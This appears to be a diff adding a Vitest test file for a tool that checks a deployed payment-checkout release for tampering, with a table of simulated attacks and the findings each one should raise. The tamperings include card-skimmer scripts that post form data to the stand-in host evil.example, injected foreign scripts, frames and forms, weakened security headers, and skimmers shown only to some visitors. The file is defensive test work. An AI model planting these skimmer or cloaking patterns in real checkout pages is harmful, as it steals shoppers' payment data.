@@ -1,0 +1,431 @@
+// @vitest-environment node
+
+import { brotliCompressSync } from 'node:zlib';
+import { afterEach, describe, expect, it } from 'vitest';
+import { ADVICE, type FindingName } from './findings';
+import { builtRelease, ORIGIN, type Reply, serve, type Tamper } from './testRelease';
+import { verify } from './verify';
+
+const release = builtRelease();
+let close = async (): Promise<unknown> => undefined;
+afterEach(() => close());
+
+async function check(tamper?: Tamper, options: { anySettings?: boolean; staticHost?: boolean } = {}) {
+  const server = await serve(release, tamper);
+  close = server.close;
+  return verify({ address: ORIGIN, inventory: release.inventory, ask: server.ask, ...options });
+}
+
+const CSP = 'content-security-policy';
+const APP = release.named(/\/assets\/app-.*\.js$/);
+const PANEL = release.named(/\/assets\/panel-/);
+const STYLE = release.named(/\/assets\/app-.*\.css$/);
+const MARK = release.named(/\/assets\/visa-.*\.svg$/);
+const PINNED = release.named(/^\/kobo-\d.*\.js$/);
+const OVERLAY = release.named(/^\/kobo-overlay-/);
+const RIVAL = 'https://evil.example';
+
+const isPage = ({ headers }: Reply) => headers['content-type'] === release.inventory.page.type;
+const ofFile =
+  (path: string, change: (reply: Reply) => Reply): Tamper =>
+  (reply, asked) =>
+    asked.secure && asked.path === path ? change(reply) : reply;
+const ofPage =
+  (change: (reply: Reply) => Reply): Tamper =>
+  (reply, { secure }) =>
+    secure && isPage(reply) ? change(reply) : reply;
+const html = (from: string | RegExp, to: string) =>
+  ofPage((reply) => ({ ...reply, body: Buffer.from(changed(reply.body.toString(), from, to)) }));
+const header = (name: string, value: string | string[] | ((now: string) => string)) => (reply: Reply) => ({
+  ...reply,
+  headers: {
+    ...reply.headers,
+    [name]: typeof value === 'function' ? value(String(reply.headers[name])) : value,
+  },
+});
+const without = (name: string) => (reply: Reply) => ({
+  ...reply,
+  headers: Object.fromEntries(Object.entries(reply.headers).filter(([one]) => one !== name)),
+});
+const text = (from: string | RegExp, to: string) => (reply: Reply) => ({
+  ...reply,
+  body: Buffer.from(changed(reply.body.toString(), from, to)),
+});
+const append = (more: string) => (reply: Reply) => ({
+  ...reply,
+  body: Buffer.concat([reply.body, Buffer.from(more)]),
+});
+const csp = (from: string | RegExp, to: string) => ofPage(header(CSP, (now) => changed(now, from, to)));
+const onlyFor =
+  (
+    who: (headers: Readonly<Record<string, string | string[] | undefined>>) => boolean,
+    tamper: Tamper,
+  ): Tamper =>
+  (reply, asked, of) =>
+    who(asked.headers) ? tamper(reply, asked, of) : reply;
+const agent = (pattern: RegExp) => (headers: Readonly<Record<string, string | string[] | undefined>>) =>
+  pattern.test(String(headers['user-agent']));
+
+/** A change that changes nothing would be found by nobody, and prove nothing. */
+function changed(before: string, from: string | RegExp, to: string): string {
+  const after = before.replace(from, () => to);
+  if (after === before) throw new Error(`${from} is not there to be changed.`);
+  return after;
+}
+
+const SKIMMER = `<script>fetch("${RIVAL}",{method:"POST",body:document.forms})</script>`;
+
+/** What is done to the release -> by which names it is found. */
+const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
+  // Bytes.
+  ['one byte more at the end of the app', ofFile(APP, append('\n')), ['bytes-changed']],
+  ['a skimmer behind the app', ofFile(APP, append(`;fetch("${RIVAL}")`)), ['bytes-changed']],
+  [
+    'another script in place of a chunk',
+    ofFile(PANEL, (reply) => ({ ...reply, body: Buffer.from('0') })),
+    ['bytes-changed'],
+  ],
+  [
+    'a chunk that is cut short',
+    ofFile(PANEL, (reply) => ({ ...reply, body: reply.body.subarray(0, 100) })),
+    ['bytes-changed'],
+  ],
+  ['an empty chunk', ofFile(PANEL, (reply) => ({ ...reply, body: Buffer.alloc(0) })), ['bytes-changed']],
+  ['a style that hides the amount', ofFile(STYLE, append('h1{display:none}')), ['bytes-changed']],
+  ['a script in a mark', ofFile(MARK, text('<svg', '<svg onload="alert(1)"')), ['bytes-changed']],
+  ['another kobo.js', ofFile('/kobo.js', append('0')), ['bytes-changed']],
+  ['another kobo.mjs', ofFile('/kobo.mjs', append('0')), ['bytes-changed']],
+  ['other bytes under a pinned version', ofFile(PINNED, append('0')), ['bytes-changed']],
+  ['another overlay', ofFile(OVERLAY, append('0')), ['bytes-changed']],
+  [
+    'kobo.js that loads its parts without their hashes',
+    ofFile('/kobo.js', text(/integrity/g, 'title')),
+    ['integrity-removed', 'bytes-changed'],
+  ],
+  [
+    'a brotli form that decompresses to something else',
+    onlyFor(
+      (headers) => headers['accept-encoding'] === 'br',
+      ofFile(APP, (reply) => ({
+        ...reply,
+        headers: { ...reply.headers, 'content-encoding': 'br' },
+        body: brotliCompressSync('evil()'),
+      })),
+    ),
+    ['bytes-changed', 'served-differently'],
+  ],
+  [
+    'a compression that nobody asked for',
+    ofFile(APP, header('content-encoding', 'zstd')),
+    ['encoding-unknown'],
+  ],
+  ['a chunk that is gone', ofFile(PANEL, (reply) => ({ ...reply, status: 404 })), ['file-missing']],
+  ['a chunk that can not be served', ofFile(PANEL, (reply) => ({ ...reply, status: 500 })), ['status']],
+  // The page.
+  ['an inline skimmer', html('</body>', `${SKIMMER}</body>`), ['inline-script-added', 'bytes-changed']],
+  [
+    'an inline module',
+    html('</head>', '<script type="module">evil()</script></head>'),
+    ['inline-script-added', 'bytes-changed'],
+  ],
+  [
+    'an import map',
+    html('</head>', '<script type="importmap">{"imports":{}}</script></head>'),
+    ['inline-script-added', 'bytes-changed'],
+  ],
+  [
+    'rules of speculation',
+    html('</head>', '<script type="speculationrules">{}</script></head>'),
+    ['inline-script-added', 'bytes-changed'],
+  ],
+  [
+    'an inline script in capitals',
+    html('</body>', '<SCRIPT>evil()</SCRIPT ></body>'),
+    ['inline-script-added', 'bytes-changed'],
+  ],
+  [
+    'other code in the inline script',
+    html('<script>!function', '<script>evil();!function'),
+    ['inline-script-changed', 'bytes-changed'],
+  ],
+  [
+    'the inline script twice',
+    ofPage((reply) => ({
+      ...reply,
+      body: Buffer.from(reply.body.toString().replace(/<script>[\s\S]*?<\/script>/, (one) => one + one)),
+    })),
+    ['inline-script-added', 'bytes-changed'],
+  ],
+  ['no inline script', html(/<script>[\s\S]*?<\/script>/, ''), ['inline-script-missing', 'bytes-changed']],
+  [
+    'a script of another origin',
+    html('</head>', `<script src="${RIVAL}/x.js"></script></head>`),
+    ['script-added', 'bytes-changed'],
+  ],
+  [
+    'a script of another origin, its address without quotes',
+    html('</head>', `<script async src=${RIVAL}/x.js></script></head>`),
+    ['script-added', 'bytes-changed'],
+  ],
+  [
+    'a script of this origin that is not of the release',
+    html('</head>', '<script src="/assets/x.js"></script></head>'),
+    ['script-added', 'bytes-changed'],
+  ],
+  [
+    'the app from another origin',
+    html(`src="${APP}"`, `src="${RIVAL}${APP}"`),
+    ['script-added', 'script-missing', 'bytes-changed'],
+  ],
+  ['no app', html(/<script type="module"[^>]*><\/script>/, ''), ['script-missing', 'bytes-changed']],
+  [
+    'a preloaded module of another origin',
+    html('</head>', `<link rel="modulepreload" href="${RIVAL}/x.js"></head>`),
+    ['style-added', 'bytes-changed'],
+  ],
+  [
+    'a style sheet of another origin',
+    html('</head>', `<link rel="stylesheet" href="${RIVAL}/x.css"></head>`),
+    ['style-added', 'bytes-changed'],
+  ],
+  ['a <base>', html('<head>', `<head><base href="${RIVAL}/">`), ['base-added', 'bytes-changed']],
+  [
+    'a frame over the form',
+    html('</body>', `<iframe src="${RIVAL}"></iframe></body>`),
+    ['frame-added', 'bytes-changed'],
+  ],
+  [
+    'a form that is sent elsewhere',
+    html('</body>', `<form action="${RIVAL}"><input name="pan"></form></body>`),
+    ['form-added', 'bytes-changed'],
+  ],
+  [
+    'an attribute that is code',
+    html('<body', '<body onload="evil()"'),
+    ['event-handler-added', 'bytes-changed'],
+  ],
+  [
+    'an address that is code',
+    html('</body>', '<a href="javascript:evil()">Pay</a></body>'),
+    ['event-handler-added', 'bytes-changed'],
+  ],
+  [
+    'a page that leads elsewhere',
+    html('<head>', `<head><meta http-equiv="refresh" content="0;url=${RIVAL}">`),
+    ['meta-added', 'bytes-changed'],
+  ],
+  ['another API in the configuration', html('"live": ""', `"live": "${RIVAL}"`), ['config-changed']],
+  ['another text in the page', html('<title>', '<title>Free '), ['bytes-changed']],
+  [
+    'another page at one kind of address',
+    ofFile('/invoice/KOBO-VERIFY', append(SKIMMER)),
+    ['inline-script-added', 'bytes-changed'],
+  ],
+  [
+    'a service worker where a script could be',
+    ofFile('/sw.js', (reply) => ({
+      ...reply,
+      headers: { ...reply.headers, 'content-type': 'text/javascript' },
+      body: Buffer.from('onfetch=evil'),
+    })),
+    ['service-worker-added', 'bytes-changed'],
+  ],
+  [
+    'an app that registers a service worker',
+    ofFile(APP, append(';navigator.serviceWorker.register("/x")')),
+    ['service-worker-added', 'bytes-changed'],
+  ],
+  [
+    'a script where there is none',
+    ofFile('/assets/sw.js', (reply) => ({ ...reply, status: 200, body: Buffer.from('evil()') })),
+    ['unexpected-file'],
+  ],
+  // The policy.
+  ['no policy', ofPage(without(CSP)), ['csp-missing']],
+  [
+    'a policy that only reports',
+    ofPage((reply) =>
+      header('content-security-policy-report-only', String(reply.headers[CSP]))(without(CSP)(reply)),
+    ),
+    ['csp-report-only', 'header-added'],
+  ],
+  ['another source of scripts', csp("script-src 'self'", `script-src 'self' ${RIVAL}`), ['csp-source-added']],
+  ['unsafe-inline', csp("script-src 'self'", "script-src 'self' 'unsafe-inline'"), ['csp-source-added']],
+  [
+    'another address to send to',
+    csp("connect-src 'self'", `connect-src 'self' ${RIVAL}`),
+    ['csp-source-added'],
+  ],
+  ['no hash of the inline script', csp(/ 'sha256-[^']*'/, ''), ['csp-source-missing']],
+  ['forms that may be sent', csp(/; form-action 'none'/, ''), ['csp-directive-missing']],
+  ['text that may become code', csp(/; require-trusted-types-for 'script'/, ''), ['csp-directive-missing']],
+  [
+    'a policy of Trusted Types',
+    csp("trusted-types 'none'", 'trusted-types evil'),
+    ['csp-source-added', 'csp-source-missing'],
+  ],
+  [
+    'a second policy',
+    ofPage((reply) => header(CSP, [String(reply.headers[CSP]), "default-src 'self'"])(reply)),
+    ['header-changed'],
+  ],
+  [
+    'frames of some pages alone',
+    csp('base-uri', 'frame-ancestors https://a.example; base-uri'),
+    ['csp-directive-added'],
+  ],
+  // Other headers.
+  ['no frames at all', ofPage(header('x-frame-options', 'DENY')), ['header-added']],
+  ['no HSTS', (reply) => without('strict-transport-security')(reply), ['header-missing']],
+  ['HSTS for a minute', header('strict-transport-security', 'max-age=60'), ['hsts-weaker']],
+  ['a page that is sniffed', ofPage(without('x-content-type-options')), ['header-missing']],
+  ['references in the logs of others', ofPage(header('referrer-policy', 'unsafe-url')), ['header-changed']],
+  [
+    'the camera',
+    ofPage(header('permissions-policy', (now) => changed(now, 'camera=()', 'camera=*'))),
+    ['header-changed'],
+  ],
+  [
+    'a page that others hold on to',
+    ofPage(header('cross-origin-opener-policy', 'unsafe-none')),
+    ['header-changed'],
+  ],
+  ['a page that is kept', ofPage(header('cache-control', 'public, max-age=86400')), ['header-changed']],
+  ['a page out of a cache', ofPage(header('age', '3600')), ['cache-stale']],
+  [
+    'kobo.js kept for a year',
+    ofFile('/kobo.js', header('cache-control', 'public, max-age=31536000, immutable')),
+    ['header-changed'],
+  ],
+  [
+    'kobo.js for pages of this origin alone',
+    ofFile('/kobo.js', without('access-control-allow-origin')),
+    ['header-missing'],
+  ],
+  [
+    'an overlay that isolated pages may not load',
+    ofFile(OVERLAY, header('cross-origin-resource-policy', 'same-origin')),
+    ['header-changed'],
+  ],
+  ['a script as text', ofFile(APP, header('content-type', 'text/plain')), ['content-type-changed']],
+  ['the page without its charset', ofPage(header('content-type', 'text/html')), ['content-type-changed']],
+  [
+    'a script by a header',
+    ofPage(header('link', `<${RIVAL}/x.js>; rel=preload; as=script`)),
+    ['header-added'],
+  ],
+  ['a page that leads elsewhere by a header', ofPage(header('refresh', `0;url=${RIVAL}`)), ['header-added']],
+  ['a cookie', ofPage(header('set-cookie', 'id=1')), ['header-added']],
+  ['a page that others may read', ofPage(header('access-control-allow-origin', '*')), ['header-added']],
+  [
+    'a wider reach for service workers',
+    ofFile(APP, header('service-worker-allowed', '/')),
+    ['service-worker-added'],
+  ],
+  ['reports to a stranger', ofPage(header('reporting-endpoints', `a="${RIVAL}"`)), ['header-added']],
+  [
+    'a missing file that is remembered',
+    ofFile('/assets/none.js', header('cache-control', 'max-age=3600')),
+    ['header-changed'],
+  ],
+  // Where it is served, and to whom.
+  [
+    'a page elsewhere',
+    ofPage((reply) => ({ ...reply, status: 302, headers: { location: `${RIVAL}/` } })),
+    ['redirected'],
+  ],
+  [
+    'a script elsewhere',
+    ofFile(APP, (reply) => ({ ...reply, status: 301, headers: { location: `${RIVAL}/x.js` } })),
+    ['redirected'],
+  ],
+  [
+    'a checkout without TLS',
+    (reply, { secure, path }, of) =>
+      secure ? reply : { status: 200, headers: {}, body: of.read('/index.html').subarray(0, path.length) },
+    ['http-not-redirected'],
+  ],
+  [
+    'a way from http: to another host',
+    (reply, { secure }) => (secure ? reply : { ...reply, headers: { location: `${RIVAL}/` } }),
+    ['redirected'],
+  ],
+  [
+    'a way from http: to http:',
+    (reply, { secure }) => (secure ? reply : { ...reply, headers: { location: 'http://pay.example/x' } }),
+    ['http-not-redirected'],
+  ],
+  [
+    'a skimmer for phones alone',
+    onlyFor(agent(/Mobile/), html('</body>', `${SKIMMER}</body>`)),
+    ['inline-script-added', 'served-differently', 'bytes-changed'],
+  ],
+  [
+    'a skimmer for everybody but who checks',
+    onlyFor((headers) => headers['user-agent'] !== 'kobo-verify', ofFile(APP, append('0'))),
+    ['bytes-changed', 'served-differently'],
+  ],
+  [
+    'a skimmer within a frame of another site alone',
+    onlyFor((headers) => headers['sec-fetch-dest'] === 'iframe', ofFile(APP, append('0'))),
+    ['bytes-changed', 'served-differently'],
+  ],
+  [
+    'a weaker policy for desktops',
+    onlyFor(agent(/Macintosh/), ofPage(without(CSP))),
+    ['csp-missing', 'served-differently'],
+  ],
+];
+
+describe('a release that was tampered with', () => {
+  it.each(TABLE)('is found: %s', async (_what, tamper, names) => {
+    const { outcome, findings } = await check(tamper);
+    expect(outcome).toBe('differs');
+    expect([...new Set(findings.map(({ name }) => name))].sort()).toEqual([...names].sort());
+  });
+
+  it('is found in at least sixty ways, by every name but those that need another network', () => {
+    expect(TABLE.length).toBeGreaterThanOrEqual(60);
+    expect(new Set(TABLE.map(([what]) => what)).size).toBe(TABLE.length);
+    const found = new Set(TABLE.flatMap(([, , names]) => names));
+    const rest = Object.keys(ADVICE).filter((name) => !found.has(name as FindingName));
+    expect(rest.sort()).toEqual(['certificate-invalid', 'stale-page']);
+  });
+});
+
+/** What servers and those in front of them do that is no change of the release. */
+const HARMLESS: [what: string, tamper: Tamper][] = [
+  ['nothing', (reply) => reply],
+  ['a name of the server', header('server', 'nginx')],
+  ['a validator', header('etag', '"1"')],
+  ['a date', header('last-modified', 'Mon, 02 Mar 2026 09:15:00 GMT')],
+  ['what it depends on', header('vary', 'Accept-Encoding')],
+  ['who was on the way', header('via', '1.1 varnish')],
+  ['a number of the request', header('x-request-id', '7')],
+  ['a file out of a cache', ofFile(APP, header('age', '3600'))],
+  [
+    'HSTS for longer, and for names below',
+    header('strict-transport-security', 'max-age=63072000; includeSubDomains; preload'),
+  ],
+  [
+    'types in other letters',
+    (reply) => header('content-type', (now) => now.replace('; charset=utf-8', ';charset=UTF-8'))(reply),
+  ],
+];
+
+describe('a release that nobody has touched', () => {
+  it.each(HARMLESS)('raises no alarm in ten checks with %s', async (_what, tamper) => {
+    const server = await serve(release, tamper);
+    close = server.close;
+    for (let round = 0; round < 10; round += 1) {
+      const { outcome, findings, unchecked } = await verify({
+        address: ORIGIN,
+        inventory: release.inventory,
+        ask: server.ask,
+        staticHost: round === 8,
+        anySettings: round === 9,
+      });
+      expect({ outcome, findings, unchecked }).toEqual({ outcome: 'same', findings: [], unchecked: [] });
+    }
+  });
+});
